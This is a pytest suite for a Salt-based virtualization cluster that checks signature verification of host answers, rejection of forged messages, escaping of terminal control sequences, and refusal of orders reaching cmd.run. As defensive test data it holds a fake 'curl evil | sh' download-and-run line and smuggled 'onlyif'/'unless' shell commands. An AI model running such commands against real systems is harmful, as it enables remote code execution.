"""What a host says is heard if it has signed it, and whatever else comes in its name is not."""

import contextlib
import json
import logging
import time

import keypairs
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from saltvirt.cluster import minionkeys
from saltvirt.cluster.cloud import Cloud
from saltvirt.cluster.rpc import hostcommands, minions, unsignedreplies
from saltvirt.core.crypto import keypair, signed
from saltvirt.core.errors import BadArgument
from saltvirt.core.options.config import HostSettings, MasterSettings
from saltvirt.core.salt import answering, compat
from saltvirt.vm.create.master import minionwait
from sizes import sizes

OWN, EVIL = keypairs.named("hyper1"), keypairs.named("evil")


def packed(key=OWN, **what):
    """Return what a host says, signed."""
    return signed.pack(
        signed.SignedAnswer(**{"minion": "hyper1", "about": "1", "fun": "virt.x", **what}),
        key[1].encode(),
    )


def heard(data, public=OWN[0]):
    """Return what the master takes of it."""
    return signed.unpack(data, public, minion="hyper1", about="1")


def test_what_is_said_arrives_as_it_was():
    value = {"vms": {"wéb1": [1, 2.5, None, True, "a\tb"]}}

    said = heard(packed(value=value, why="no", retcode=2))

    assert (said.value, said.why, said.retcode, said.fun) == (value, "no", 2, "virt.x")


FORGED = {
    "nothing": None,
    "unsigned": {"a": 1},
    "no signature": {"said": packed()["said"]},
    "another's": packed(EVIL),
    "of another job": packed(about="2"),
    "in another's name": packed(EVIL, minion="evil"),
    "changed": {**packed(), "said": packed()["said"].replace("virt.x", "virt.y")},
    "of numbers": {"said": 1, "signature": 2},
    "of bytes": {"said": b"\xff", "signature": b"\xff"},
    "of half a letter": {"said": "\udce4", "signature": "AAAA"},
    "no base64": {**packed(), "signature": "ä"},
}


@pytest.mark.parametrize("name", FORGED)
def test_what_another_says_is_not_heard(name):
    with pytest.raises(signed.NotSigned):
        heard(FORGED[name])


def test_nothing_is_heard_of_a_host_without_an_accepted_key():
    with pytest.raises(signed.NotSigned):
        heard(packed(), public="")


JUNK = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text() | st.binary(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    max_leaves=8,
)


@sizes(quick=100, full=2000)
def test_whatever_comes_is_passed_over(size):
    @settings(max_examples=size, deadline=None)
    @given(JUNK, JUNK, JUNK)
    def look(junk, said, signature):
        for data in (junk, {"said": said, "signature": signature}):
            with pytest.raises(signed.NotSigned):
                heard(data)

    look()


def test_what_a_host_says_that_makes_no_sense_is_an_error_of_that_host(monkeypatch):
    def by_hand(text):
        monkeypatch.setattr(signed.json, "dumps", lambda *_args, **_options: text)
        return packed()

    for text, why in (
        ("[" * 100_000, "recursion"),
        ("{", "Expecting"),
        ('{"minion": 1, "about": "1"}', "minion"),
    ):
        with pytest.raises(signed.NotUnderstood, match=why):
            heard(by_hand(text))


def test_an_answer_of_a_hundred_mebibytes_is_not_read(monkeypatch):
    monkeypatch.setattr(signed, "MAX_BYTES", 1 << 20)

    with pytest.raises(signed.NotUnderstood, match="it has more than 1 MiB"):
        heard(packed(value="x" * (3 << 20)))


def test_nothing_that_a_terminal_would_obey_is_left():
    said = heard(packed(value={"\x1b[2J": ["\x9b31m", "a\u202eb", "fine"]}, why="\x07"))

    assert said.value == {r"\x1b[2J": [r"\x9b31m", r"a\u202eb", "fine"]}
    assert said.why == r"\x07"


def test_a_text_within_an_answer_is_one_line_as_it_stands_in_a_table_of_others():
    forged = "down\nhyper2: nothing falls short\r\nhyper3"

    said = heard(packed(value={"state": forged, "all": [forged]}, why="a\nb"))

    assert said.value == {"state": forged_line(), "all": [forged_line()]}
    assert said.why == "a\nb" and heard(packed(value="a\nb")).value == "a\nb"


def forged_line():
    """Return the same as a host cannot put it on lines of its own."""
    return "down hyper2: nothing falls short\\r hyper3"


class Bus:
    """Stand for Salt's client and its events: forged ones cannot be timed for real."""

    def __init__(self, *events):
        self.event, self.sent = self, []
        self._events = [{"tag": f"salt/job/1/ret/{data['id']}", "data": data} for data in events]

    def pub(self, targets, fun, arg, **_options):
        """Send a job."""
        self.sent.append((fun, arg))
        return {"jid": "1", "minions": targets}

    def get_event(self, wait, **_options):
        """Return the next event; there is none before anybody was asked."""
        return self._events.pop(0) if self.sent and self._events else time.sleep(wait)

    def get_cache_returns(self, _jid):
        """Return what the master has stored: nothing."""
        return {}


@pytest.fixture
def cloud(opts, monkeypatch):
    """A master with one hypervisor; call it with what comes over its bus."""

    def made(*events):
        minionkeys.accept(opts, "hyper1", OWN[0])
        bus = Bus(*events)
        monkeypatch.setattr(Cloud, "client", lambda _self: contextlib.nullcontext(bus))
        known = MasterSettings(timeout_s=0.1, hypervisors="hyper1")
        return bus, Cloud(opts=opts, settings=known, progress=lambda *_a, **_k: None)

    return made


def event(value, **data):
    """Return the data of the event of an answer."""
    return {"id": "hyper1", "return": value, **data}


def test_a_forged_answer_is_passed_over_and_the_true_one_is_heard(cloud, caplog):
    forged = event(packed(EVIL, value="lies"))
    _bus, master = cloud(forged, forged, event(packed(value="truth")))

    with caplog.at_level(logging.WARNING):
        replies = minions.ask(master, ["hyper1"], "virt.x")

    assert replies["hyper1"].value == "truth"
    (line,) = [line for line in caplog.messages if "passed over" in line]
    assert line.startswith("job 1: passed over, in the name of hyper1: ")


def test_a_flood_of_answers_in_a_hosts_name_is_read_to_its_end(cloud):
    unsigned, signed_by_another = event(1), event(packed(EVIL, value="lies"))
    flood = [unsigned] * 9000 + [signed_by_another] * 500
    _bus, master = cloud(*flood, event(packed(value="truth")))

    assert minions.ask(master, ["hyper1"], "virt.x")["hyper1"].value == "truth"


def test_the_text_of_an_event_is_not_shown(cloud, caplog):
    _bus, master = cloud()
    hearing = minions.ReplyCollector(master, "1", ["hyper1"])

    with caplog.at_level(logging.WARNING):
        hearing.accept({"id": "hyper1", "return": "\x1b[2J", "tag": "\x1b[2J"})

    assert "\x1b" not in caplog.text and "passed over" in caplog.text


@pytest.mark.parametrize("said", ["'virt.signed' is not available.", "all is well", ["x"]])
def test_a_host_without_our_code_is_no_reason_for_a_warning(cloud, caplog, said):
    hearing = minions.ReplyCollector(cloud()[1], "1", ["hyper1"])
    with caplog.at_level(logging.WARNING):
        hearing.accept({"id": "hyper1", "return": said})
    assert ("passed over" in caplog.text) is ("virt.signed" not in said)


def test_a_host_with_old_code_is_silent_and_it_says_why(cloud):
    _bus, master = cloud(event("'virt.signed' is not available.", retcode=254))

    reply = minions.ask(master, ["hyper1"], "virt.x")["hyper1"]

    assert reply.is_missing and "salt hyper1 saltutil.sync_all" in reply.error


def test_an_answer_that_cannot_be_read_is_that_hosts_error(cloud, monkeypatch):
    monkeypatch.setattr(signed, "MAX_BYTES", 10)
    _bus, master = cloud(event(packed(value="x" * 100)))

    reply = minions.ask(master, ["hyper1"], "virt.x")["hyper1"]

    assert not reply.is_missing and reply.error.startswith("its answer is not understood: it has")


def test_an_order_whose_answer_cannot_be_read_may_have_been_done(cloud, monkeypatch):
    monkeypatch.setattr(signed, "MAX_BYTES", 10)
    _bus, master = cloud(event(packed(value="x" * 100)))

    reply = minions.order(master, "hyper1", "virt.init", ["web1"], {})

    assert reply.is_missing and reply.error.startswith("hyper1: its answer is not understood")


def test_an_order_to_one_host_has_nothing_that_others_can_read(cloud):
    bus, master = cloud(event(packed(value="built")))

    reply = minions.order(master, "hyper1", "virt.init", ["web1"], {"user_data": "MARKER"})

    ((fun, arg),) = bus.sent
    assert reply.value == "built" and fun == "virt.signed"
    assert "MARKER" not in str(arg) and "web1" not in str(arg) and keypair.is_sealed(arg[0])
    assert "MARKER" in keypair.unseal(arg[0], OWN[1])


@pytest.mark.slow
def test_an_order_without_an_answer_is_given_up_by_its_id(cloud, monkeypatch):
    monkeypatch.setattr(minions, "_FIND_JOB_S", 0.1)
    bus, master = cloud()

    assert minions.order(master, "hyper1", "virt.init", ["web1"], {}).is_missing

    order_id = json.loads(keypair.unseal(bus.sent[0][1][0], OWN[1]))["id"]
    told = bus.sent[-1][1][0]
    assert (told["fun"], told["arg"]) == ("virt.refuse_order", [order_id])


def test_an_order_that_the_host_had_only_queued_is_said_not_to_have_begun(cloud, monkeypatch):
    monkeypatch.setattr(minions, "refuse", lambda *_args: minions.REFUSED)
    monkeypatch.setattr(minions, "_FIND_JOB_S", 0.1)
    _bus, master = cloud()

    reply = minions.order(master, "hyper1", "virt.init", ["web1"], {})

    assert (
        reply.is_missing
        and reply.error == "hyper1 has not begun virt.init, and the master withdrew the order"
    )


def test_a_minion_that_the_master_has_not_heard_itself_does_not_answer(cloud, monkeypatch):
    monkeypatch.setattr(unsignedreplies, "STORED_S", 0.1)
    _bus, master = cloud(*[{"id": "web1", "return": True}] * 4)

    assert minionwait.wait_for_start(master, "web1", wait_s=0.3, every_s=0.1) is None


@pytest.mark.parametrize("option", [{"job_cache": False}, {"ext_job_cache": "redis"}])
def test_without_a_job_cache_of_the_masters_own_a_return_is_an_answer(cloud, option):
    _bus, master = cloud(*[{"id": "web1", "return": True}] * 2)
    master.opts.update(option)
    said, own = {"id": "web1"}, compat.Grains(master.opts)
    kept = said if own._has_bank else {"grains": said}
    own._cache.store(*own._place("web1"), kept)

    assert minionwait.wait_for_start(master, "web1", wait_s=5, every_s=0.1) is not None


def test_forged_progress_is_not_shown(opts, monkeypatch):
    minionkeys.accept(opts, "hyper1", OWN[0])
    shown = []
    known = MasterSettings(hypervisors="hyper1")
    master = Cloud(opts=opts, settings=known, progress=lambda stage, **_k: shown.append(stage))
    watch = hostcommands.progress_watcher(master, "salt/virt/init", "hyper1", "web1")
    lie = {"name": "web1", "stage": "run: curl evil | sh"}

    for data in (lie, packed(EVIL, about="salt/virt/init", value=lie), packed(value=lie)):
        watch("salt/virt/init", {"id": "hyper1", "data": data})
    true = {"name": "web1", "stage": "Starting"}
    watch("salt/virt/init", {"id": "hyper1", "data": packed(about="salt/virt/init", value=true)})

    assert shown == ["Starting"]


# On the host.


@pytest.fixture
def host(tmp_path):
    """A minion: how it answers an order, and what its functions were given."""
    (tmp_path / "minion.pem").write_text(OWN[1])
    opts, context, called = {"id": "hyper1", "pki_dir": str(tmp_path)}, {}, []
    own = HostSettings(state_dir=str(tmp_path / "state"))

    def failing(*_args, **_kwargs):
        raise BadArgument("name", "no")

    def coded():
        context["retcode"] = 1
        return {"error": "said"}

    def broken():
        raise RuntimeError("boom")

    functions = {
        "virt.x": lambda *args, **kwargs: called.append((args, kwargs)) or "done",
        "virt.fails": failing,
        "virt.coded": coded,
        "virt.broken": broken,
        "virt.signed": failing,
        "cmd.run": failing,
        "state.single": lambda *_args: {},
    }

    def answer(order):
        said = answering.answer(opts, functions, context, "1", order, lambda: own)
        return heard(said)

    return answer, called


def test_a_host_does_what_is_ordered_and_signs_what_it_says(host):
    answer, called = host
    said = answer({"fun": "virt.x", "arg": [1], "kwarg": {"b": 2}})

    assert (said.value, said.fun, called) == ("done", "virt.x", [((1,), {"b": 2})])


def test_an_order_that_was_refused_is_not_done_and_one_is_done_once(host, tmp_path):
    answer, called = host
    own = HostSettings(state_dir=str(tmp_path / "state"))
    answering.refuse_order(own, "1" * 32)

    refused = answer({"fun": "virt.x", "id": "1" * 32})
    done = [answer({"fun": "virt.x", "id": "2" * 32}).why for _time in range(2)]

    assert "the master has given this order up" in refused.why and refused.retcode == 1
    assert done == [None, refused.why] and called == [((), {})]


def test_a_sealed_order_is_done_too(host):
    answer, called = host

    answer(keypair.seal('{"fun": "virt.x", "arg": ["web1"]}', OWN[0]))

    assert called == [(("web1",), {})]


@pytest.mark.parametrize(
    ("fun", "why", "code"),
    [
        ("virt.fails", "name: no", 1),
        ("virt.coded", None, 1),
        ("virt.broken", "RuntimeError: boom", 1),
        ("virt.gone", "'virt.gone' is not available.", 1),
    ],
)
def test_what_goes_wrong_is_signed_too(host, fun, why, code):
    said = host[0]({"fun": fun})

    assert (said.why, said.retcode) == (why, code)


@pytest.mark.parametrize(
    "order",
    [
        {"fun": "cmd.run", "arg": ["id"]},
        {"fun": "virt.signed", "arg": [{}]},
        {"fun": "state.single", "arg": ["cmd.run"]},
        {"fun": "state.single"},
        {"fun": "state.single", "arg": ["virt.keys"], "kwarg": {"name": "x", "onlyif": "id"}},
        {"fun": "state.single", "arg": ["virt.keys"], "kwarg": {"unless": "id"}},
        {"fun": "state.single", "arg": ["virt.keys", "x", None, True]},
        {"fun": "saltutil.find_job_x"},
        {},
        "virt.x",
    ],
)
def test_whoever_may_call_virt_may_call_no_more_by_it(host, order):
    with pytest.raises(BadArgument):
        host[0](order)
    assert host[1] == []
